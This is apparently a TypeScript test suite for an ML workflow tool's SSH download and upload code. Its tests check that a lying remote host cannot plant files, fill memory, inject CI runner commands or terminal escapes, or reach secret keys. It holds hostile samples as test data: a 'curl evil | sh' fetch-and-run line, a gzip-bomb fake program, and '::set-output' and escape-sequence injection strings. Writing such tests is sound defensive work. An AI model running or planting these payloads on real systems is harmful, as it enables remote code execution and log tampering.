/** Hosts that lie, and what may never reach one: nothing but what was asked for comes here, no key of ours goes there. */
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EventLines } from '../../src/reports/lines.ts';
import { styleFor } from '../../src/reports/style.ts';
import { download } from '../../src/ssh/download.ts';
import { treeOf } from '../../src/ssh/tree.ts';
import { upload } from '../../src/ssh/upload.ts';
import { entriesAt } from '../../src/targets/hosts/entries.ts';
import { unitsOf } from '../../src/targets/hosts/remote-job.ts';
import { linesOf, projectWith } from '../drivers/rig.ts';
import { startRunpod } from '../rig/runpod.ts';
import { connectionTo, hasSshd, type Sshd, startSshd } from '../rig/sshd.ts';
import { runFleet } from '../targets/fleet-rig.ts';
import { temporaryFolder } from '../targets/rig.ts';
import { boxProject, runBox, variablesOf } from '../targets/ssh-rig.ts';

describe.skipIf(!hasSshd)('a host whose programs lie', () => {
  let sshd: Sshd;
  const bin = temporaryFolder();
  beforeAll(async () => {
    sshd = await startSshd({ environment: { PATH: `${bin}:${process.env.PATH}` } });
  });
  afterAll(() => sshd.stop());

  /** Training runs as the user that we ask: it can put another program in the place of each. */
  const lie = (name: string, script: string) => {
    writeFileSync(join(bin, name), `#!/bin/sh\n${script}\n`);
    chmodSync(join(bin, name), 0o755);
  };

  it.each([
    ['beside it', './deploy.sh'],
    ['above it', '../deploy.sh'],
    ['whose name begins like it', './models.sh'],
  ])('writes no file here that was not asked for: one %s', async (_where, path) => {
    const there = join(sshd.home, 'workspace');
    mkdirSync(join(there, 'model'), { recursive: true });
    writeFileSync(join(there, 'model', 'weights'), 'weights');
    writeFileSync(join(there, path), 'curl evil | sh');
    lie('stat', `exec /usr/bin/stat "$@" ${path}`);
    const to = temporaryFolder();
    const connection = connectionTo(sshd);
    try {
      const got = await download(connection, {
        ...{ from: there, paths: ['model'], to, mostBytes: 1e6, mostFiles: 100 },
      });
      expect(got.files).toEqual(['model/weights']);
      expect(readFileSync(join(to, 'model', 'weights'), 'utf8')).toBe('weights');
      expect(existsSync(join(to, path))).toBe(false);
    } finally {
      connection.close();
    }
  });

  it('makes no link here to what is never moved: an upload of results would follow it', async () => {
    lie('stat', 'exec /usr/bin/stat "$@"');
    const there = join(sshd.home, 'linked');
    mkdirSync(join(there, 'out'), { recursive: true });
    symlinkSync('../.ml-workflow/runs', join(there, 'out', 'model'));
    symlinkSync('weights', join(there, 'out', 'latest'));
    const connection = connectionTo(sshd);
    try {
      const to = temporaryFolder();
      const got = await download(connection, {
        ...{ from: there, paths: ['out'], to, mostBytes: 1e6, mostFiles: 100 },
      });
      expect(got.files).toEqual(['out/latest']);
      expect(got.leftOut).toEqual(['`out/model`: it is a link into `.ml-workflow`']);
    } finally {
      connection.close();
    }
  });

  it('fills no memory here by what it says that it has', async () => {
    const root = projectWith({ a: 'a' });
    const connection = connectionTo(sshd);
    const send = () =>
      upload(connection, { root, tree: { gitIgnored: true }, to: join(sshd.home, 'bombed'), name: 'tree' });
    try {
      expect(await send()).toMatchObject({ sentFiles: 1 });
      writeFileSync(join(root, 'b'), 'b');
      writeFileSync(join(sshd.home, 'bombed', 'a'), 'touched');
      lie(
        'gzip',
        'case $* in *d*) exec /usr/bin/gzip "$@" ;; esac\nhead -c 300000000 /dev/zero | /usr/bin/gzip -1',
      );
      await expect(send()).rejects.toThrow('what the host says of its files cannot be read, or is too long');
    } finally {
      connection.close();
      rmSync(join(bin, 'gzip'));
    }
  });

  it.each([
    ['a command of the runner', '::set-output name=decision::passed', /^\s*::|##\[/m],
    ['one behind a carriage return', 'x\r::save-state name=folder::/', /^\s*::|##\[/m],
    ['an escape', '\u001b]0;owned\u0007 it is \u001b[2J', /[^\P{Cc}\n]/u],
  ])('cannot say %s by what goes wrong there', async (_what, said, forbidden) => {
    lie('stat', 'exec /usr/bin/stat "$@"');
    const words = Buffer.from(`boom\n${said}\n`).toString('base64');
    // Where results are listed, and nowhere else.
    lie('mktemp', `[ $# -eq 0 ] || exec /usr/bin/mktemp "$@"; echo ${words} | base64 -d >&2; exit 1`);
    const folder = projectWith({
      'ml-workflow.yml': boxProject({ commands: { a: { run: 'echo done', target: 'box' } } }),
    });
    const log: string[] = [];
    const lines = new EventLines((line) => log.push(line), styleFor({}, false));
    const run = await runBox(folder, '/a', { environment: variablesOf(sshd) });
    for (const event of run.events) lines.event(event, run.state);
    expect(log.join('\n')).toContain('boom');
    expect(log.join('\n')).not.toMatch(forbidden);
  });
});

describe.skipIf(!hasSshd)('a pod', () => {
  it('cannot put an escape into the terminal by the name of its GPU', async () => {
    const runpod = await startRunpod();
    try {
      const log: string[] = [];
      for (const gpu of runpod.gpus) Object.assign(gpu, { name: `${gpu.name}\u001b]0;owned\u0007` });
      const run = await runFleet(runpod, '/train:sigma-0.10');
      const lines = new EventLines((line) => log.push(line), styleFor({}, false));
      for (const event of run.events) lines.event(event, run.state);
      expect(run.decision).toBe('passed');
      expect(log.join('\n')).toContain('RTX 4090');
      expect(log.join('\n')).not.toMatch(/[^\P{Cc}\n]|owned/u);
    } finally {
      await runpod.stop();
    }
  });
});

describe('the folder of a run on a host', () => {
  it('is of that run alone, however long the name of its workflow is', () => {
    const name = 'hyperparameter-sweep-of-the-large-encoder-on-all-folds';
    const folders = [`20261121-101500123-${name}-3f9a`, `20261122-090000456-${name}-3f9a`, 'a.b', 'a-b'].map(
      (run) => unitsOf('/w', run),
    );
    expect(new Set(folders).size).toBe(4);
    for (const folder of folders) expect(folder).toMatch(/^\/w\/\.ml-workflow\/units\/[\w-]{1,56}$/);
  });
});

describe('what is sent', () => {
  it.skipIf(!hasSshd)('has no `.env` that no commit has, unless it is named', async () => {
    const sshd = await startSshd();
    try {
      const files = { '.env': 'KEY=1', 'deep/.env.local': 'KEY=2', 'a.env': 'plain' };
      const commands = { a: { run: 'find . -name "*.env*" | sort', target: 'box' } };
      const sent = async (sync: object) => {
        const yaml = boxProject({ sync, commands }, { workspace: `~/${Object.keys(sync).join('')}` });
        const folder = projectWith({ 'ml-workflow.yml': yaml, ...files });
        return (await runBox(folder, '/a', { environment: variablesOf(sshd) })).printed;
      };
      expect(await sent({ source: 'working-tree' })).toEqual(['./a.env']);
      expect(await sent({ source: 'working-tree', up: ['.env'] })).toEqual(['./.env', './a.env']);
    } finally {
      await sshd.stop();
    }
  });

  it.each([
    ['keys of pods', '.ml-workflow/runs', '.ml-workflow'],
    ['a file of git', '.git/config', '.git'],
    ['what a link leads to', 'data', '.ml-workflow'],
  ])('has no records of ours, also where a person names them: %s', async (_what, from, reserved) => {
    const root = projectWith({ '.ml-workflow/runs/x/pods/mlw.json': '{}', '.git/config': 'secret' });
    symlinkSync('.ml-workflow/runs', join(root, 'data'));
    const never = new AbortController().signal;
    await expect(entriesAt(root, { from, to: 'sent' }, [], never)).rejects.toThrow(
      `\`${from}\` cannot be sent: nothing is moved into or out of \`${reserved}\``,
    );
    await expect(entriesAt(root, { from, to: '.git/hooks' }, [], never)).rejects.toThrow('cannot be sent');
  });

  it('is listed by a git that sees no key of ours', async () => {
    const bin = temporaryFolder();
    const seen = join(bin, 'seen');
    writeFileSync(join(bin, 'git'), `#!/bin/sh\nenv > ${seen}\n`, { mode: 0o755 });
    const folder = temporaryFolder();
    mkdirSync(join(folder, '.git'));
    const { PATH } = process.env;
    process.env.PATH = `${bin}:${PATH}`;
    process.env.RUNPOD_API_KEY = 'rpa_never_to_be_seen';
    try {
      await treeOf(folder, { gitIgnored: false });
    } finally {
      process.env.PATH = PATH;
      delete process.env.RUNPOD_API_KEY;
    }
    expect(linesOf(seen).join('\n')).not.toMatch(/RUNPOD|rpa_/);
  });
});
